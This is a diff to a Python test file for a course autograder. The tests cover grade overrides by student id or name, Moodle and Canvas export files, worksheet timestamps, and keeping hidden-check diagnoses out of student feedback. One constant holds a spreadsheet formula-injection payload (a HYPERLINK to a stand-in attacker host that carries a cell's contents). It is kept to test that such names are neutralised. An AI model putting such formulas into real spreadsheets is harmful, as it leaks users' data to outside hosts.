@@ -2,26 +2,33 @@
 regrades, Canvas and Moodle import files, and no way for a name to become a formula.
 
 `python tests/test_gradebook.py` rewrites the golden export files after a deliberate change."""
+import calendar
 import csv
 import io
 import json
 import os
+import re
+import shutil
+import subprocess
 import sys
+import time
 import zipfile
 from pathlib import Path
 
 import pytest
 
-from conftest import FIXTURES, SUBMISSIONS, run_grader
+from conftest import FIXTURES, ROOT, SUBMISSIONS, run_grader
 from grader.errors import SubmissionError
 from grader.exports import CANVAS_FILE, MOODLE_FILE
 from grader.gradebook import cell, counted
 from grader.inputs import Identity, Submission
-from grader.overrides import parse
+from grader.overrides import check, parse
 
 GOLDEN = Path(__file__).resolve().parent / "fixtures" / "gradebook"
 FAST = ["--cell-timeout", "4", "--call-timeout", "2", "--seed", "7"]
 HOSTILE = '=HYPERLINK("evil.example?"&A1,"x")'
+SAMPLE_OVERRIDES = ROOT / "examples" / "overrides.csv"   # the README's sample, used by the class below
+MOODLE_TIME = "%A, %d %B %Y, %I:%M %p UTC"   # Moodle's userdate() format, in UTC
 
 
 def test_a_cell_a_spreadsheet_would_run_is_quoted():
@@ -74,6 +81,104 @@ def test_a_bad_overrides_file_is_one_line_naming_the_line(tmp_path, text, words)
         parse(path)
 
 
+CLASS = {"31": "Bo Chen", "32": "Bo Chen", "33": "Ann Lee", "111": "doejane", "7": ""}
+
+
+@pytest.mark.parametrize("given, student", [("33", "33"), ("ann lee", "33"), ("  ANN   LEE ", "33"),
+                                            ("DoeJane", "111"), ("7", "7")])
+def test_an_override_names_a_student_by_id_or_by_name(given, student):
+    [resolved] = check([{"student": given, "score": 3.0, "reason": "r", "file": "o.csv"}], CLASS, 25)
+    assert resolved["student"] == student
+
+
+@pytest.mark.parametrize("given, words", [
+    ("bo chen", "override for bo chen: 2 students have that name (ids 31, 32); name the student by id"),
+    ("Anne Lee", "override for Anne Lee: no student of that id or name in this batch; closest: Ann Lee (33)"),
+    ("doejan", "closest: doejane (111)"),
+    ("zzzzzz", "override for zzzzzz: no student of that id or name in this batch"),
+])
+def test_an_ambiguous_or_unknown_name_is_one_line_with_the_candidates(given, words):
+    with pytest.raises(SubmissionError) as raised:
+        check([{"student": given, "score": 3.0, "reason": "r", "file": "o.csv"}], CLASS, 25)
+    assert str(raised.value) == words or (words in str(raised.value) and "\n" not in str(raised.value))
+
+
+def test_an_id_and_a_name_of_the_same_student_are_a_second_override():
+    with pytest.raises(SubmissionError, match="a second override for student 33"):
+        check([{"student": "33", "points": 1.0, "reason": "r", "file": "o.csv"},
+               {"student": "Ann Lee", "points": 2.0, "reason": "r", "file": "o.csv"}], CLASS, 25)
+
+
+def test_the_sample_overrides_file_parses_and_names_students_of_the_sample_class():
+    overrides = parse(SAMPLE_OVERRIDES)
+    assert [o["points"] for o in overrides] == [2.0, -1.0]
+    resolved = check(overrides, {"222": "leeann", "31": "Bo Chen", "111": "doejane"}, 25)
+    assert [o["student"] for o in resolved] == ["222", "31"]
+    readme = (ROOT / "README.md").read_text()
+    assert "```csv\n" + "".join(f"  {line}\n" for line in SAMPLE_OVERRIDES.read_text().splitlines()) in \
+        readme.replace("\n  ```csv\n", "\n```csv\n"), "the README's sample is not examples/overrides.csv"
+
+
+def moodle_seconds(written: str) -> int:
+    """The moment a worksheet time means, read as Moodle's importer reads it (PHP's strtotime)
+    where PHP is installed, else by its format; both where it is, and they must agree."""
+    seconds = calendar.timegm(time.strptime(written, MOODLE_TIME))
+    php = shutil.which("php")
+    if php:
+        read = subprocess.run([php, "-r", "date_default_timezone_set('America/New_York'); echo strtotime($argv[1]);",
+                               written], capture_output=True, text=True, check=True).stdout
+        assert int(read) == seconds, (written, read)
+    return seconds
+
+
+def test_a_worksheet_time_is_what_moodle_reads():
+    from grader.exports import moodle_time
+    for moment in (0, 1795437780, 1795424700.9, 1794301200, 1798761599):   # midnight, noon, a Monday, a New Year
+        assert moodle_seconds(moodle_time(moment)) == int(moment) // 60 * 60
+    assert moodle_time(1795437780) == "Monday, 23 November 2026, 12:43 PM UTC"
+    assert moodle_time(1793696700) == "Tuesday, 3 November 2026, 9:05 AM UTC"
+
+
+def every_check_hidden(tmp_path: Path) -> Path:
+    spec = tmp_path / "course.toml"
+    base = (ROOT / "reference" / "assignments" / "rows.toml").read_text()
+    kinds = '"fixed", "random_shapes", "single_head", "weights_distribution", "permutation_equivariance", ' \
+            '"memory_layout", "dtypes", "inputs_unmodified", "return_structure", "numerical_stability"'
+    spec.write_text(re.sub(r"(\[\[functions\]\]\n)", f"\\1hidden = [{kinds}]\n", base))
+    return spec
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("course, notebook, mistake, visible", [
+    # Every check hidden: the mistake is found by hidden checks only.
+    (every_check_hidden, "mistake_softmax_axis.ipynb", "softmax over the wrong axis", ""),
+    # Some checks hidden: the visible ones find one mistake, the hidden ones another of their own.
+    (lambda tmp_path: FIXTURES / "lms" / "assignment.toml", "mistake_global_D.ipynb", "reads notebook globals",
+     " Likely mistakes: self_attention: scaled by sqrt(D) instead of sqrt(d_k); multi_head_attention: scaled by sqrt(D) instead of "
+     "sqrt(d_k)."),
+])
+def test_a_diagnosis_only_a_hidden_check_found_never_reaches_the_worksheet(tmp_path, course, notebook, mistake,
+                                                                           visible):
+    """The staff's grades.csv names the mistake; the worksheet, whose feedback students read in
+    Moodle, does not."""
+    moodle = tmp_path / "moodle.zip"
+    with zipfile.ZipFile(moodle, "w") as zf:
+        zf.writestr("Ann Lee_41_assignsubmission_file_/attention.ipynb", _notebook(notebook))
+    out = tmp_path / "out"
+    code, _, stderr, _ = run_grader(["grade", moodle, "-o", out, "--assignment", course(tmp_path), *FAST])
+    assert code == 0, stderr
+    assert mistake in (out / "grades.csv").read_text()
+    [row] = read_csv(out / MOODLE_FILE)
+    assert row["Identifier"] == "Participant 41" and row["Grade"] not in ("", "25")
+    assert row["Feedback comments"] == f"Autograded {row['Grade']} / 25.{visible}"
+    assert mistake.split()[-1] not in (out / MOODLE_FILE).read_text()
+
+
+def masked_times(text: str) -> str:
+    """The worksheet with its grading times replaced, for comparing it with the golden file."""
+    return re.sub(r'"\w+day, \d+ \w+ \d{4}, \d+:\d\d [AP]M UTC"', "<time>", text)
+
+
 def _notebook(name: str) -> bytes:
     return (SUBMISSIONS / name).read_bytes()
 
@@ -102,9 +207,11 @@ def test_exports_overrides_and_one_row_per_student(tmp_path):
     canvas, moodle = exports_class(tmp_path)
     out = tmp_path / "out"
     overrides = tmp_path / "overrides.csv"
-    overrides.write_text("student,points,reason\n222,+2,regrade request: scaling explained in a comment\n")
+    shutil.copy(SAMPLE_OVERRIDES, overrides)
+    started = time.time()
     code, stdout, stderr, _ = run_grader(["grade", canvas, moodle, "-o", out, "--overrides", overrides,
                                           "--lms-assignment", "Homework 3 (1234)", *FAST])
+    finished = time.time()
     assert code == 0, stderr
     assert CANVAS_FILE in stdout and MOODLE_FILE in stdout
     rows = {r["student"]: r for r in read_csv(out / "grades.csv")}
@@ -115,8 +222,20 @@ def test_exports_overrides_and_one_row_per_student(tmp_path):
     assert rows["32"]["name"].startswith("'=") and rows["32"]["status"] == "error" and rows["32"]["score"] == ""
     assert "self_attention.fixed" not in (out / "grades.csv").read_text()   # per function, not per check
     assert rows["111"]["self_attention mistake"] == "softmax over the wrong axis"
+    assert rows["31"]["score"] == "24" and rows["31"]["override"] == "24: submitted a day late"   # named by name
     for name in (CANVAS_FILE, MOODLE_FILE):
-        assert (out / name).read_text() == (GOLDEN / name).read_text(), f"{name} changed; see the module docstring"
+        assert masked_times((out / name).read_text()) == masked_times((GOLDEN / name).read_text()), \
+            f"{name} changed; see the module docstring"
+    worksheet = {r["Identifier"]: r for r in read_csv(out / MOODLE_FILE)}
+    # The student whose file could not be graded has no row: an empty grade would keep Moodle's,
+    # but its feedback would still replace the staff's.
+    assert list(worksheet) == ["Participant 31"] and "Autograded 0" not in (out / MOODLE_FILE).read_text()
+    assert worksheet["Participant 31"]["Feedback comments"] == (
+        "Autograded 25 / 25. Adjusted by the staff (-1 points): submitted a day late.")
+    # When the file was graded, as Moodle writes it, so that a grade the staff change in Moodle
+    # later is newer and the importer keeps it.
+    written = worksheet["Participant 31"]["Last modified (grade)"]
+    assert int(started) // 60 * 60 <= moodle_seconds(written) <= finished
     recorded = json.loads(next(out.glob("222-*/result.json")).read_text())
     assert recorded["score"] == 8 and recorded["override"]["score"] == 10
     assert recorded["override"]["reason"].startswith("regrade request")
@@ -132,7 +251,7 @@ def test_exports_overrides_and_one_row_per_student(tmp_path):
     overrides.write_text("student,score,reason\n999,20,typo\n")
     code, stdout, stderr, _ = run_grader(["grade", canvas, "-o", tmp_path / "other", "--overrides", overrides, *FAST])
     assert code == 2 and stderr.strip().splitlines() == [
-        "grader: error: override for 999: no submission of that student id in this batch"]
+        "grader: error: override for 999: no student of that id or name in this batch"]
     assert not list((tmp_path / "other").glob("*/result.json"))
 
 
@@ -148,13 +267,12 @@ def test_nothing_gradable_is_exit_2_in_one_line(tmp_path, inputs):
 
 
 if __name__ == "__main__":
-    import subprocess
     import tempfile
     sys.path.insert(0, str(Path(__file__).resolve().parent))
     with tempfile.TemporaryDirectory() as folder:
         canvas, moodle = exports_class(Path(folder))
         overrides = Path(folder) / "overrides.csv"
-        overrides.write_text("student,points,reason\n222,+2,regrade request: scaling explained in a comment\n")
+        shutil.copy(SAMPLE_OVERRIDES, overrides)
         subprocess.run(["grader", "grade", canvas, moodle, "-o", Path(folder) / "out", "--overrides", overrides,
                         "--lms-assignment", "Homework 3 (1234)", *FAST], check=True)
         GOLDEN.mkdir(parents=True, exist_ok=True)
